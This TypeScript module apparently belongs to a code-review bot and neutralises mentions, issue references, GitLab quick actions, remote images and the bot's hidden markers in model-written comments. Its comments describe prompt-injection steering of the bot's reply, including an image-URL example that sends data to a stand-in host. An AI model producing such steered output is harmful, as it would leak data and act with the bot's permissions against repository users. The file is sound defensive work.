/**
 * What a code-host comment may say, when its text is model output that payload text can
 * steer. Five things in it would act instead of being read:
 * - @mentions: every `@name`, `@org/team`, `@all` notifies someone (one event could ping
 *   hundreds of people). Unless `delivery.codehost.allow_mentions` is true, each is
 *   neutralised by a zero-width space after the `@` (U+200B): it still reads `@alice`, but
 *   neither GitHub nor GitLab links or notifies it. It is read as rendered: `&#64;bob`,
 *   `&commat;bob`, `@&#98;ob` and `@\_bob` are mentions too.
 * - Issue, merge request, epic and commit references (`#12`, `GH-12`, `owner/repo#12`,
 *   `!12`, `&12`, `owner/repo@sha`): each adds a "mentioned this" cross-reference to what it
 *   names, in any repository, so a steered reply could spam backlinks. Same switch, same
 *   space after the sigil; which forms, and why URLs stay links: references.ts.
 * - Quick actions: GitLab runs a line starting with `/approve`, `/merge`, `/label` … in a
 *   note as a command by the note's author, the bot (ChatOps bots on GitHub read such lines
 *   too). Such a line gets a zero-width space before its `/`, always: outside code, and
 *   wherever GitLab's own scan finds one, which is not CommonMark (a `~~~` or unclosed fence
 *   shields nothing there, and it deletes `\r` first; references.ts gitlabCommandStarts).
 * - Remote images (`![](url)`, `<img src>`): fetched when the comment is shown, so a URL
 *   carrying data would leak it unclicked. Made links, always (neutraliseImages).
 * - hookagent's own hidden markers (`<!-- hookagent:…`, `<!-- hookagent-reviewed:…`): a
 *   quoted one would tell the next run which comment is its own or which commit it last
 *   reviewed. Quoted ones become `<!-- (quoted) hookagent…`, always.
 * Code (fenced blocks and inline spans) is left exactly as written: mentions and references
 * there are never live, and `@Override` or `@dataclass` must stay copyable. So are URLs the
 * host links whole. The text is read as commonmark.js (CommonMark 0.31) and as cmark-gfm
 * (GitHub, GFM 0.29) read it: its blocks (blocks.ts: block quotes and list items, fences,
 * HTML blocks, paragraphs; where the two differ, text), then each block's inline code
 * (inline.ts: a code span may run over line breaks; where readings could differ, text is
 * code only if all say so), then its raw HTML as the page's HTML parser reads it (a tag
 * after raw HTML left open, an unclosed `<?` or quote, is text there).
 */
import type { Config } from '../config/types';
import { documentBlocks, joinDocument, readDocument, type OpenBlocks } from './blocks';
import { ended, tokenize, type Html } from './html-tokenizer';
import { inlineKinds, TAG, TEXT } from './inline';
import { BREAK, breakMentions, breakReferences, gitlabCommandStarts, type Reading } from './references';

export const MENTION_BREAK = BREAK;
/** A quick action: `/` and a letter at the start of a line (up to 3 spaces in). */
const QUICK_ACTION = /^( {0,3})\/(?=[A-Za-z])/;
/** A hookagent marker comment, however spaced or cased. */
const MARKER = /<!--(\s*)hookagent/gi;

/**
 * The tokenizer's possible states over a reply's raw HTML, fed piece by piece in order.
 * Between two pieces the page gets Markdown's own markup and escaped text, which may end a
 * bogus comment or a tag (a `>`, a quote) or may not: both are followed.
 */
class HtmlReader {
  states: Html[] = [{ state: 'data', details: 0 }];
  private fed = false;

  /** Feeds raw HTML; per character, 1 where it is inside a tag whatever the state before. */
  feed(html: string): Uint8Array {
    if (this.fed) this.states = merge(this.states.flatMap(between));
    this.fed = true;
    const inTag = new Uint8Array(html.length).fill(1);
    this.states = merge(this.states.map((h) => {
      const mine = new Uint8Array(html.length);
      const next = tokenize(h, html, (from, to) => void mine.fill(1, from, to));
      for (let i = 0; i < html.length; i++) inTag[i] = (inTag[i] as number) & (mine[i] as number);
      return next;
    }));
    return inTag;
  }

  /** Whether Markdown's own output here is read as it is meant (no tag, comment or raw text open). */
  get plain(): boolean {
    return merge(this.states.flatMap(between)).every((h) => h.state === 'data' && !h.raw);
  }

  /** The states once Markdown's markup after the last piece has come too. */
  end(): Html[] {
    return merge(this.states.flatMap(between));
  }
}

const between = (h: Html): Html[] => (h.state === 'bogus' ? [h, { state: 'data', details: h.details }] : h.state === 'tag' ? [h, ended(h)] : [h]);

/** One state per kind, with the most `<details>` open. */
function merge(states: Html[]): Html[] {
  const byKey = new Map<string, Html>();
  for (const h of states) {
    const key = JSON.stringify([h.state, h.tag, h.raw]);
    if ((byKey.get(key)?.details ?? -1) < h.details) byKey.set(key, h);
  }
  return [...byKey.values()];
}

/**
 * `onText` over each block's text outside code, in order (a paragraph's open brackets decide
 * which URLs are links: references.ts), `onTag` over the tags and autolinks the page reads as
 * such: after an unclosed `<?` or quote in the raw HTML before it, Markdown's tag can be text.
 */
function mapInline(text: string, onText: (part: string, reading: Reading | undefined) => string, onTag: (tag: string) => string = (tag) => tag): string {
  const doc = readDocument(text);
  const reading: Reading = { open: 0 };
  const page = new HtmlReader();
  for (const { first, contents, kind } of documentBlocks(doc)) {
    if (kind === 'blank') reading.open = 0;
    if (kind === 'blank' || kind === 'code') continue;
    const html = kind === 'html';
    const joined = contents.join('\n');
    const { kinds, units } = inlineKinds(contents, html);
    const untag = (from: number, inTag: Uint8Array) => (k: number, i: number) => {
      if (k === TAG && !inTag[i]) kinds[from + i] = TEXT;
    };
    if (html) kinds.forEach(untag(0, page.feed(joined)));
    else if (kind === 'text') {
      for (const { from, to, raw } of units[0]) {
        // An autolink is Markdown's own link: read as one only where no raw HTML before it is left open.
        const inTag = raw ? page.feed(joined.slice(from, to)) : new Uint8Array(to - from).fill(page.plain ? 1 : 0);
        kinds.subarray(from, to).forEach(untag(from, inTag));
      }
    }
    let out = '';
    for (let i = 0; i < joined.length;) {
      let j = i + 1;
      while (j < joined.length && kinds[j] === kinds[i]) j += 1;
      const part = joined.slice(i, j);
      // A backslash escapes nothing in an HTML block: `\@bob` is a backslash and a mention there.
      const textPart = () => (html ? part.split('\\').map((p) => onText(p, undefined)).join('\\') : onText(part, reading));
      out += kinds[i] === TEXT ? textPart() : kinds[i] === TAG ? onTag(part) : part;
      i = j;
    }
    // Neither changes a line break, so the lines map back one to one behind their prefixes.
    out.split('\n').forEach((content, k) => {
      doc.lines[first + k] = `${(doc.lines[first + k] as string).slice(0, doc.blocks[first + k]!.from)}${content}`;
    });
  }
  return joinDocument(doc);
}

/** The text with every @mention outside code neutralised (pure; idempotent). */
export const neutraliseMentions = (text: string) => mapInline(text, breakMentions);

/** The text with every issue, merge request, epic and commit reference outside code neutralised (pure; idempotent). */
export const neutraliseReferences = (text: string) => mapInline(text, breakReferences);

/**
 * Lines that would run as quick actions, made plain text: outside CommonMark code (up to 3
 * spaces in, for ChatOps bots), then wherever GitLab itself finds one (gitlabCommandStarts).
 */
export function neutraliseQuickActions(text: string): string {
  const doc = readDocument(text);
  doc.lines = doc.lines.map((line, i) => (doc.blocks[i]!.kind === 'code' ? line : line.replace(QUICK_ACTION, `$1${MENTION_BREAK}/`)));
  const outside = joinDocument(doc);
  const starts = gitlabCommandStarts(outside);
  if (starts.length === 0) return outside;
  let out = '';
  let done = 0;
  for (const at of starts) {
    out += `${outside.slice(done, at)}${MENTION_BREAK}`;
    done = at;
  }
  return out + outside.slice(done);
}

/** hookagent's hidden markers quoted in a reply, made inert (everywhere: an HTML comment in code is still read by the next run). */
export function neutraliseMarkers(text: string): string {
  return text.replace(MARKER, '<!--$1(quoted) hookagent');
}

/** `![alt](url)` (not escaped): an image; made a link by dropping the `!`. */
const IMAGE = /(?<!\\)!\[/g;
/** Tags that load a URL when the comment is shown: img, picture/source, video, audio, and the like. */
const LOADING_TAG = /<(?=(?:img|image|picture|source|video|audio|track|embed|object|iframe|svg|input)(?:[\s/>]|$))/gi;

/**
 * Remote images made links (outside code, always): GitHub and GitLab fetch an image when
 * the comment is shown, so a reply steered into `![](https://x.example/?q=<data>)` or
 * `<img src=…>` would send what the bot read to that server without anyone clicking.
 * Markdown images become plain links (`[alt](url)`); loading HTML tags are shown as text.
 */
export function neutraliseImages(text: string): string {
  // In text too: a tag that one reading does not see whole is text there, and CommonMark may still render it.
  return mapInline(text, (part) => part.replace(IMAGE, '[').replace(LOADING_TAG, '&lt;'), (tag) => tag.replace(LOADING_TAG, '&lt;'));
}

/**
 * What ends every state in `states`, and an HTML block of type 1 to 5 still open outside
 * any container (it needs a line with its own end: `</pre>`, `-->`, `?>`, `>`, `]]>`). Each
 * closer shows nothing where it closes nothing: `<!-- -->` is an empty comment; in a tag,
 * `<!-- "' -->` ends any attribute value and then the tag; an end tag without its element
 * is dropped. In a script, `<!-- -->` first leaves an escaped `<!--` section.
 */
function htmlClosers(states: readonly Html[], block: OpenBlocks['html']): string {
  const raws = new Set(states.flatMap((h) => (h.raw && h.raw !== 'plaintext' ? [h.raw] : [])));
  if (block?.type === 1 && !['pre', 'script', 'style', 'textarea'].some((n) => raws.has(n))) raws.add(block.name);
  const comment = states.some((h) => h.state === 'tag') ? '<!-- "\' -->' : states.some((h) => h.state !== 'data') || (block?.type ?? 1) > 1 ? '<!-- -->' : '';
  // A processing instruction or CDATA block ends at a line holding `?>` or `]]>`: inside a comment, it shows nothing.
  const blockEnd = block?.type === 3 ? '<!--?>-->' : block?.type === 5 ? '<!--]]>-->' : '';
  const details = Math.max(0, ...states.map((h) => h.details));
  return `${comment ? `\n\n${comment}${blockEnd}` : ''}${[...raws].map((n) => `\n${n === 'script' ? '<!-- -->' : ''}</${n}>`).join('')}${'\n\n</details>'.repeat(details)}`;
}

/**
 * What a reply must be followed by so that it cannot swallow what hookagent writes after it
 * in the same comment (the findings notes, the "could not read the diff" warning, the
 * footer): an open fence is closed inside the containers that hold it (a fence in a list
 * item or block quote ends with it, and a closer outside would open a new one); whatever its
 * raw HTML leaves open gets what ends it: an unclosed `<!--`, `<?`, a tag in mid-attribute,
 * `<script>`, `<style>`, `<textarea>` …, `<details>`; an HTML block that runs to its own end
 * (`<pre>`, `<!--`, `<?`) gets that end. The raw HTML is read as each inline reading
 * (inline.ts) finds it, and what any of them leaves open is closed: closing too much is
 * cosmetic, too little is not. Empty when the reply leaves nothing open.
 */
export function replyClosers(text: string): string {
  const doc = readDocument(text);
  // One page per inline reading (inline.ts inlineKinds).
  const pages = Array.from({ length: 4 }, () => new HtmlReader());
  for (const { contents, kind } of documentBlocks(doc)) {
    const joined = contents.join('\n');
    if (kind === 'html') for (const page of pages) page.feed(joined);
    else if (kind === 'text') inlineKinds(contents, false).units.forEach((units, r) => units.forEach((u) => u.raw && pages[r]!.feed(joined.slice(u.from, u.to))));
  }
  const { fences, html } = doc.open;
  // A fence open in one block reading only is closed inside an HTML comment block of the other (there a bare closer would open one).
  const fenceClosers = fences.map(({ marker, prefix, bare }) => (bare ? `\n${prefix}${marker}` : `\n${prefix}<!--\n${prefix}${marker}\n<!-- -->`));
  return `${fenceClosers.join('')}${htmlClosers(pages.flatMap((page) => page.end()), html)}`;
}

/** Model text posted where no setting allows mentions (inline findings): all of it made inert. */
export function inertText(text: string): string {
  return neutraliseReferences(neutraliseMentions(neutraliseImages(neutraliseMarkers(neutraliseQuickActions(text)))));
}

/** What a code-host comment says: the reply with quick actions, markers and remote images made inert, and its mentions and references unless the configuration allows them. */
export function commentText(reply: string, settings: Pick<Config['delivery'], 'codehost'> | undefined): string {
  const safe = neutraliseImages(neutraliseMarkers(neutraliseQuickActions(reply)));
  return settings?.codehost.allow_mentions === true ? safe : neutraliseReferences(neutraliseMentions(safe));
}
